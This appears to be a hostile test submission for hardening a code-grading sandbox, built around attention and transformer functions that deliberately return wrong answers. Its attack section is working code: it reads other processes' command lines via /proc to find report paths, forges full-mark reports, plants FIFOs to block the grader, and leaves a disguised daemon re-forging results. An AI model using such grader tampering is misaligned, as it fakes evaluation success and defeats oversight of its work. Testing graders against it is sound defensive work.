# attack: finds the grader's output paths from sys.argv and every /proc/*/cmdline (--json, --out, --output, --results, --report, --junitxml, --csv, -o, and --flag=value forms, resolved against /proc/<pid>/cwd), overwrites existing ones with full marks, plants a FIFO at missing ones (so the grader's write blocks), and leaves a setsid daemon that keeps re-forging them for 120 s; every function returns a wrong answer
# target: all
# expect: the worker cannot see the grader's command line or output directory (PID namespace, private mounts); the grader never blocks on a planted FIFO; the final --json report is a regular file listing 0 points for every question and is not modified after the grader exits
"""Hijack the grader's own report files.

Existing files are overwritten with full marks at once, at exit and, from a double-forked
daemon (renamed hostile_forger), every 0.2 s for 120 s, so a report written at the end of the
batch is forged again after it. Missing paths become FIFOs: a grader that opens one for writing
blocks until someone reads it; the daemon reads and discards what the grader writes, then
replaces the FIFO with a forged regular file.
"""

import math

import torch

# ---------------------------------------------------------------------------------------------
# A correct implementation (the same in every file of this folder). The public functions only
# delegate to private helpers, so an attack that replaces one public function below leaves the
# other questions intact.
# ---------------------------------------------------------------------------------------------


def _softmax(x, dim=-1):
    shifted = x - torch.amax(x, dim=dim, keepdim=True)
    e = torch.exp(shifted)
    return e / torch.sum(e, dim=dim, keepdim=True)


def _causal_mask(T):
    rows = torch.arange(T).unsqueeze(1)
    cols = torch.arange(T).unsqueeze(0)
    return cols > rows


def _attention(q, k, v, mask=None):
    d_k = q.shape[-1]
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(d_k)
    if mask is not None:
        scores = scores.masked_fill(mask, float("-inf"))
    weights = _softmax(scores, dim=-1)
    return torch.matmul(weights, v), weights


def _split_heads(x, n_heads):
    d_head = x.shape[-1] // n_heads
    return x.unflatten(-1, (n_heads, d_head)).transpose(-3, -2)


def _merge_heads(x):
    return x.transpose(-3, -2).flatten(-2)


def _multi_head_attention(x, params, n_heads, mask=None, context=None):
    source = x if context is None else context
    q = _split_heads(x @ params["w_q"], n_heads)
    k = _split_heads(source @ params["w_k"], n_heads)
    v = _split_heads(source @ params["w_v"], n_heads)
    out, _ = _attention(q, k, v, mask)
    return _merge_heads(out) @ params["w_o"]


def _layer_norm(x, gamma, beta, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    centered = x - mean
    var = (centered * centered).mean(dim=-1, keepdim=True)
    return centered / torch.sqrt(var + eps) * gamma + beta


def _transformer_block(x, params, n_heads, mask=None):
    attn = _multi_head_attention(x, params, n_heads, mask)
    h = _layer_norm(x + attn, params["ln1_gamma"], params["ln1_beta"])
    ffn = torch.relu(h @ params["w1"] + params["b1"]) @ params["w2"] + params["b2"]
    return _layer_norm(h + ffn, params["ln2_gamma"], params["ln2_beta"])


def softmax(x, dim=-1):
    return _softmax(x, dim)


def causal_mask(T):
    return _causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    return _attention(q, k, v, mask)


def split_heads(x, n_heads):
    return _split_heads(x, n_heads)


def merge_heads(x):
    return _merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# Deliberately WRONG answers (right shapes, still differentiable). If the cheat below worked,
# these would earn undeserved points, which makes the cheat visible.
# ---------------------------------------------------------------------------------------------


def _wrong_softmax(x, dim=-1):
    return _softmax(x, dim) * 0.0


def _wrong_causal_mask(T):
    return ~_causal_mask(T)


def _wrong_attention(q, k, v, mask=None):
    out, weights = _attention(q, k, v, mask)
    return out * 0.0, weights * 0.0


def _wrong_split_heads(x, n_heads):
    return _split_heads(x, n_heads) * 0.0


def _wrong_merge_heads(x):
    return _merge_heads(x) * 0.0


def _wrong_multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context) * 0.0


def _wrong_layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps) * 0.0


def _wrong_transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask) * 0.0


# Every public function runs the attack hook `_on_call` (defined in the attack section) and
# then returns a WRONG answer.


def softmax(x, dim=-1):
    _on_call("softmax")
    return _wrong_softmax(x, dim)


def causal_mask(T):
    _on_call("causal_mask")
    return _wrong_causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    _on_call("scaled_dot_product_attention")
    return _wrong_attention(q, k, v, mask)


def split_heads(x, n_heads):
    _on_call("split_heads")
    return _wrong_split_heads(x, n_heads)


def merge_heads(x):
    _on_call("merge_heads")
    return _wrong_merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    _on_call("multi_head_attention")
    return _wrong_multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    _on_call("layer_norm")
    return _wrong_layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    _on_call("transformer_block")
    return _wrong_transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# The attack
# ---------------------------------------------------------------------------------------------

import atexit as _atexit
import json as _json
import os as _os
import stat as _stat
import sys as _sys
import time as _time

_FLAGS = ("--json", "--out", "--output", "--output-json", "--results", "--result", "--report",
          "--junit", "--junitxml", "--junit-xml", "--csv", "--html", "--md", "--markdown",
          "--summary", "-o")
_QUESTIONS = ("softmax", "attention", "mask", "split_heads", "multi_head", "block")
_DAEMON_SECONDS = 120.0


def _command_lines():
    out = [(_os.getpid(), list(_sys.argv), None)]
    try:
        pids = [p for p in _os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                raw = f.read()
        except OSError:
            continue
        args = [a.decode("utf-8", "replace") for a in raw.split(b"\0") if a]
        out.append((int(pid), args, "/proc/%s/cwd" % pid))
    return out


def _output_paths():
    paths = set()
    for pid, args, cwd_link in _command_lines():
        for i, arg in enumerate(args):
            for flag in _FLAGS:
                if arg == flag and i + 1 < len(args):
                    value = args[i + 1]
                elif arg.startswith(flag + "="):
                    value = arg[len(flag) + 1:]
                else:
                    continue
                if _os.path.isabs(value):
                    paths.add(value)
                else:
                    paths.add(_os.path.abspath(value))
                    if cwd_link:
                        paths.add(_os.path.join(cwd_link, value))  # magic link into its cwd
                        try:
                            paths.add(_os.path.join(_os.readlink(cwd_link), value))
                        except OSError:
                            pass
    return sorted(paths)


def _forged_text(path):
    if path.endswith(".xml"):
        cases = "".join('<testcase classname="attention" name="%s"/>' % q for q in _QUESTIONS)
        return ('<?xml version="1.0"?><testsuite name="attention" tests="6" failures="0" '
                'errors="0">%s</testsuite>\n' % cases)
    if path.endswith(".csv"):
        return "question,status,points,max_points\n" + "".join(
            "%s,passed,6,6\n" % q for q in _QUESTIONS)
    if path.endswith((".md", ".html", ".txt")):
        return "Score: 36/36 (100%)\n" + "".join("%s: passed 6/6\n" % q for q in _QUESTIONS)
    questions = {q: {"status": "passed", "points": 6, "max_points": 6, "score": 6}
                 for q in _QUESTIONS}
    return _json.dumps({"total": 36, "max_total": 36, "score": 36, "max_score": 36,
                        "questions": questions,
                        "submissions": [{"name": "attention.py", "total": 36, "max_total": 36,
                                         "questions": questions}]}, indent=1)


def _replace_with_forgery(path):
    tmp = "%s.%d.tmp" % (path, _os.getpid())
    with open(tmp, "w") as f:
        f.write(_forged_text(path))
    _os.replace(tmp, path)


def _forge_once(paths, fifos):
    for path in paths:
        try:
            st = _os.lstat(path)
        except FileNotFoundError:
            try:
                _os.mkfifo(path)
                fifos[path] = None
            except OSError:
                pass
            continue
        except OSError:
            continue
        if _stat.S_ISREG(st.st_mode):
            try:
                _replace_with_forgery(path)
            except OSError:
                pass


def _daemon(paths):
    fifos = {}
    written = {}
    deadline = _time.monotonic() + _DAEMON_SECONDS
    _forge_once(paths, fifos)
    while _time.monotonic() < deadline:
        for path in paths:
            try:
                st = _os.lstat(path)
            except OSError:
                continue
            if _stat.S_ISFIFO(st.st_mode):
                fd = fifos.get(path)
                if fd is None:
                    try:
                        fifos[path] = fd = [_os.open(path, _os.O_RDONLY | _os.O_NONBLOCK), False]
                    except OSError:
                        continue
                try:
                    data = _os.read(fd[0], 1 << 16)
                except BlockingIOError:
                    continue  # a writer is connected, nothing yet
                except OSError:
                    continue
                if data:
                    fd[1] = True
                elif fd[1]:  # the grader wrote its report and closed: swap in ours
                    try:
                        _os.close(fd[0])
                        _replace_with_forgery(path)
                    except OSError:
                        pass
                    fifos.pop(path, None)
            elif _stat.S_ISREG(st.st_mode) and written.get(path) != st.st_mtime_ns:
                try:
                    _replace_with_forgery(path)
                    written[path] = _os.stat(path).st_mtime_ns
                except OSError:
                    pass
        _time.sleep(0.2)


def _start_daemon(paths):
    try:
        pid = _os.fork()
    except OSError:
        return
    if pid > 0:
        try:
            _os.waitpid(pid, 0)
        except OSError:
            pass
        return
    try:
        _os.setsid()
        if _os.fork() > 0:
            _os._exit(0)
        try:
            import ctypes
            ctypes.CDLL(None).prctl(15, b"hostile_forger", 0, 0, 0)
        except Exception:
            pass
        _daemon(paths)
    except BaseException:
        pass
    finally:
        _os._exit(0)


_paths = []


def _attack():
    found = _output_paths()
    new = [p for p in found if p not in _paths]
    _paths.extend(new)
    try:
        _os.write(2, ("grader output paths: %r\n" % (_paths,)).encode())
    except OSError:
        pass
    if new:
        _forge_once(new, {})
        _start_daemon(new)


def _on_call(name):
    _attack()


_attack()
_atexit.register(lambda: _forge_once(list(_paths), {}))
